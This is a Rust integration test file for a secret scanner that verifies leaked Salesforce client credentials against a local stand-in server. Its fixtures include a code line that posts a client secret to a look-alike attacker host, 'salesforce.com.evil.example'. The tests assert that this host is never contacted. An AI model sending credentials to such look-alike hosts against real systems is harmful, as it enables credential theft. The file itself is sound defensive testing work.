//! `--verify` against a stand-in token endpoint: a real HTTP server on 127.0.0.1 that answers
//! like Salesforce, and records every request it gets.

use super::util::*;
use serde_json::Value;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

/// The access token the stand-in hands out: it must never appear in any output.
const ISSUED_TOKEN: &str =
    "00DXbVQHAofyzjK!ARissuedTokenThatMustNeverBePrintedQ9x7Lm2Kp4Zt8Rw1Vb6Nc3Hs5Jd0Fg";

struct StandIn {
    base: String,
    requests: Arc<Mutex<Vec<(String, String)>>>,
}

impl StandIn {
    fn start() -> StandIn {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let base = format!("http://{}", listener.local_addr().expect("addr"));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&requests);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut reader = BufReader::new(stream.try_clone().expect("clone"));
                let mut request_line = String::new();
                if reader.read_line(&mut request_line).is_err() {
                    continue;
                }
                let path = request_line
                    .split_whitespace()
                    .nth(1)
                    .unwrap_or("")
                    .to_string();
                let (mut len, mut auth) = (0usize, String::new());
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
                        break;
                    }
                    let lower = h.to_ascii_lowercase();
                    if let Some(v) = lower.strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                    if lower.starts_with("authorization:") {
                        auth = h.trim().to_string();
                    }
                }
                let mut body = vec![0; len];
                let _ = reader.read_exact(&mut body);
                let body = String::from_utf8_lossy(&body).into_owned();
                log.lock()
                    .expect("log")
                    .push((path.clone(), format!("{body}{auth}")));
                let (code, json) = answer(&path, &body, &auth);
                let mut out = stream;
                let _ = write!(
                    out,
                    "HTTP/1.1 {code} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{json}",
                    json.len()
                );
            }
        });
        StandIn { base, requests }
    }

    fn requests(&self) -> Vec<(String, String)> {
        self.requests.lock().expect("log").clone()
    }
}

/// Salesforce's answers: HEX1 is live, HEX2 rotated, HEX3 belongs to an app without a run-as
/// user; ACCESS1 is a live session.
fn answer(path: &str, body: &str, auth: &str) -> (u16, String) {
    match path {
        "/services/oauth2/revoke" => (200, String::new()),
        "/services/oauth2/userinfo" if auth.contains(ACCESS1) => (200, "{\"user_id\":\"005x\"}".into()),
        "/services/oauth2/userinfo" => (401, "[{\"errorCode\":\"INVALID_SESSION_ID\"}]".into()),
        "/services/oauth2/token" if body.contains(HEX1) => (
            200,
            format!("{{\"access_token\":\"{ISSUED_TOKEN}\",\"instance_url\":\"https://acme.my.salesforce.com\",\"token_type\":\"Bearer\"}}"),
        ),
        "/services/oauth2/token" if body.contains("grant_type=refresh_token") && body.contains(REFRESH2) => (
            200,
            format!("{{\"access_token\":\"{ISSUED_TOKEN}\"}}"),
        ),
        "/services/oauth2/token" if body.contains("grant_type=refresh_token") => (
            400,
            "{\"error\":\"invalid_grant\",\"error_description\":\"expired access/refresh token\"}".into(),
        ),
        "/services/oauth2/token" if body.contains(HEX3) => (
            400,
            "{\"error\":\"invalid_grant\",\"error_description\":\"no client credentials user enabled\"}".into(),
        ),
        _ => (
            400,
            "{\"error\":\"invalid_client\",\"error_description\":\"invalid client credentials\"}".into(),
        ),
    }
}

fn leak(secret: &str, key: &str) -> String {
    format!(
        "import requests\nrequests.post('https://acme.my.salesforce.com/services/oauth2/token', data={{\n    'grant_type': 'client_credentials',\n    'client_id': '{key}',\n    'client_secret': '{secret}',\n}})\n"
    )
}

fn tree() -> Tree {
    let t = Tree::new();
    t.write("live.py", leak(HEX1, KEY1));
    t.write("again.py", leak(HEX1, KEY1)); // the same pair: tried once
    t.write("rotated.py", leak(HEX2, KEY2));
    t.write("no_run_as.py", leak(HEX3, KEY3));
    t
}

/// Runs `sfleaks scan --verify ARGS .` in `t` with every request sent to the stand-in.
fn verify_scan(server: &StandIn, t: &Tree, args: &[&str]) -> Run {
    let mut all = vec!["scan", "--verify"];
    all.extend_from_slice(args);
    all.push(".");
    run_env(
        t.path(),
        &all,
        &[("SFLEAKS_VERIFY_ENDPOINT", server.base.as_str())],
    )
}

fn status_of(doc: &Value, path: &str) -> (String, String) {
    let f = doc["findings"]
        .as_array()
        .and_then(|a| a.iter().find(|f| f["path"] == path).cloned())
        .unwrap_or_default();
    (
        f["verification"]["status"]
            .as_str()
            .unwrap_or("")
            .to_string(),
        f["verification"]["detail"]
            .as_str()
            .unwrap_or("")
            .to_string(),
    )
}

#[test]
fn statuses_from_a_stand_in_endpoint_and_each_pair_once() {
    let server = StandIn::start();
    let t = tree();
    let env = [("SFLEAKS_VERIFY_ENDPOINT", server.base.as_str())];
    let r = verify_scan(&server, &t, &["--format", "json"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let doc = r.json();
    assert_eq!(status_of(&doc, "./live.py").0, "live");
    assert!(status_of(&doc, "./live.py").1.contains("revoked"));
    assert_eq!(status_of(&doc, "./again.py").0, "live");
    assert_eq!(status_of(&doc, "./rotated.py").0, "invalid");
    let (s, d) = status_of(&doc, "./no_run_as.py");
    assert_eq!(s, "flow-disabled");
    assert!(d.contains("no client credentials user enabled"), "{d}");

    let reqs = server.requests();
    let token_calls = reqs
        .iter()
        .filter(|(p, _)| p == "/services/oauth2/token")
        .count();
    assert_eq!(token_calls, 3, "each distinct pair once: {reqs:?}");
    let revokes: Vec<_> = reqs
        .iter()
        .filter(|(p, _)| p == "/services/oauth2/revoke")
        .collect();
    assert_eq!(revokes.len(), 1, "the live session is revoked");
    assert!(
        revokes[0].1.contains("token="),
        "the revoke carries the issued token"
    );
    assert!(
        reqs.iter()
            .any(|(_, b)| b.contains("grant_type=client_credentials")
                && b.contains("client_id=3MVG9"))
    );

    for format in ["json", "human", "sarif", "jsonl"] {
        let r = run_env(
            t.path(),
            &["scan", "--verify", "--format", format, "."],
            &env,
        );
        assert!(
            !r.stdout.contains(ISSUED_TOKEN) && !r.stderr.contains(ISSUED_TOKEN),
            "{format} leaks the token"
        );
        assert!(!r.stdout.contains("ARissuedToken"), "{format}");
        if format == "human" {
            assert!(r.stdout.contains("verified: LIVE"), "{}", r.stdout);
        }
    }
}

#[test]
fn without_verify_no_request_is_ever_made() {
    let server = StandIn::start();
    let t = tree();
    let env = [("SFLEAKS_VERIFY_ENDPOINT", server.base.as_str())];
    for format in ["json", "sarif", "jsonl", "human"] {
        let r = run_env(t.path(), &["scan", "--format", format, "."], &env);
        assert_eq!(r.code, 1);
        assert!(!r.stdout.contains("verification"), "{format}");
    }
    assert!(server.requests().is_empty(), "{:?}", server.requests());
}

#[test]
fn a_non_salesforce_host_in_a_scanned_file_is_never_contacted() {
    let server = StandIn::start();
    let t = Tree::new();
    // the file points the token call at our server's address, and at a look-alike name
    t.write(
        "ip.py",
        format!("# salesforce\nrequests.post('{}/services/oauth2/token', data={{'grant_type': 'client_credentials', 'client_id': '{KEY1}', 'client_secret': '{HEX1}'}})\n", server.base),
    );
    t.write(
        "lookalike.py",
        format!("# salesforce\nrequests.post('https://acme.my.salesforce.com.evil.example/services/oauth2/token', data={{'grant_type': 'client_credentials', 'client_id': '{KEY2}', 'client_secret': '{HEX2}'}})\n"),
    );
    t.write(
        "nohost.env",
        format!("SF_CLIENT_ID={KEY3}\nSF_CLIENT_SECRET={HEX3}\n"),
    );
    let r = run(t.path(), &["scan", "--verify", "--format", "json", "."]);
    let doc = r.json();
    let (s, d) = status_of(&doc, "./ip.py");
    assert_eq!(s, "unknown");
    assert!(d.contains("127.0.0.1") && d.contains("never sent"), "{d}");
    let (s, d) = status_of(&doc, "./lookalike.py");
    assert_eq!(s, "unknown");
    assert!(d.contains("evil.example"), "{d}");
    let (s, d) = status_of(&doc, "./nohost.env");
    assert_eq!(s, "unknown");
    assert!(d.contains("My Domain"), "{d}");
    assert!(server.requests().is_empty(), "{:?}", server.requests());
}

#[test]
fn only_verified_keeps_live_and_flow_disabled_and_the_exit_code() {
    let server = StandIn::start();
    let t = tree();
    let r = verify_scan(&server, &t, &["--only-verified", "--format", "json"]);
    assert_eq!(r.code, 1);
    let mut paths: Vec<String> = r.json()["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["path"].as_str().unwrap_or("").to_string())
        .collect();
    paths.sort();
    assert_eq!(paths, vec!["./again.py", "./live.py", "./no_run_as.py"]);
}

#[test]
fn tokens_are_verified_only_with_verify_tokens() {
    let server = StandIn::start();
    let t = Tree::new();
    t.write("session.http", format!("GET https://acme.my.salesforce.com/services/data/v61.0\nAuthorization: Bearer {ACCESS1}\n"));
    let r = verify_scan(&server, &t, &["--format", "json"]);
    assert!(r.json()["findings"][0]["verification"].is_null());
    assert!(server.requests().is_empty());
    let r = verify_scan(&server, &t, &["--verify-tokens", "--format", "json"]);
    assert_eq!(r.json()["findings"][0]["verification"]["status"], "live");
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn endpoint_override_refuses_plain_http_off_loopback() {
    let t = tree();
    let env = [("SFLEAKS_VERIFY_ENDPOINT", "http://10.1.2.3:8080")];
    let r = run_env(t.path(), &["scan", "--verify", "."], &env);
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("SFLEAKS_VERIFY_ENDPOINT") && r.stderr.contains("loopback"),
        "{}",
        r.stderr
    );
}

#[test]
fn refresh_tokens_in_auth_urls_are_checked_and_their_sessions_revoked() {
    let server = StandIn::start();
    let t = Tree::new();
    t.write(
        "ci.env",
        format!("SFDX_AUTH_URL=force://PlatformCLI::{REFRESH2}@acme.my.salesforce.com\n"),
    );
    t.write(
        "old.env",
        format!("SFDX_AUTH_URL=force://PlatformCLI::{REFRESH1}@acme.my.salesforce.com\n"),
    );
    let r = verify_scan(&server, &t, &["--verify-tokens", "--format", "json"]);
    let doc = r.json();
    assert_eq!(status_of(&doc, "./ci.env").0, "live");
    assert_eq!(status_of(&doc, "./old.env").0, "invalid");
    let reqs = server.requests();
    assert!(reqs
        .iter()
        .any(|(p, b)| p == "/services/oauth2/token" && b.contains("client_id=PlatformCLI")));
    assert_eq!(
        reqs.iter()
            .filter(|(p, _)| p == "/services/oauth2/revoke")
            .count(),
        1
    );
    assert!(!r.stdout.contains(ISSUED_TOKEN));
}

#[test]
fn a_fleet_verifies_each_distinct_secret_once() {
    use super::fleet::{build, fleet_cmd, output, shard};
    let server = StandIn::start();
    let f = build();
    let raw = f.path().join("raw");
    shard(&f, &raw, &["--show-secrets"]);
    let dir = raw.to_string_lossy().into_owned();
    let mut cmd = fleet_cmd(
        &f,
        super::fleet::KEY_A,
        &["secrets", "--verify", "-f", "json", &dir],
    );
    cmd.env("SFLEAKS_VERIFY_ENDPOINT", &server.base);
    let r = output(cmd);
    let doc: Value =
        serde_json::from_str(&r.stdout).unwrap_or_else(|e| panic!("{e}: {}", r.stderr));
    // three consumer secrets (one of them in two repositories and a fork): three requests
    let asked: Vec<String> = server
        .requests()
        .into_iter()
        .filter(|(p, _)| p == "/services/oauth2/token")
        .map(|(_, body)| body)
        .collect();
    assert_eq!(asked.len(), 3, "{asked:?}");
    assert_eq!(asked.iter().filter(|b| b.contains(HEX1)).count(), 1);
    let shared = doc["secrets"]
        .as_array()
        .expect("secrets")
        .iter()
        .find(|s| s["occurrences"] == 3)
        .expect("the shared secret");
    assert_eq!(shared["verification"]["status"], "live", "{shared}");
    assert!(!r.stdout.contains(ISSUED_TOKEN) && !r.stderr.contains(ISSUED_TOKEN));

    // redacted results cannot be verified: said, and nothing is sent
    let before = server.requests().len();
    let plain = f.path().join("plain");
    shard(&f, &plain, &[]);
    let dir = plain.to_string_lossy().into_owned();
    let mut cmd = fleet_cmd(&f, super::fleet::KEY_A, &["secrets", "--verify", &dir]);
    cmd.env("SFLEAKS_VERIFY_ENDPOINT", &server.base);
    let r = output(cmd);
    assert_eq!(r.code, 2);
    assert!(r.stderr.contains("--show-secrets"), "{}", r.stderr);
    assert_eq!(server.requests().len(), before);
}
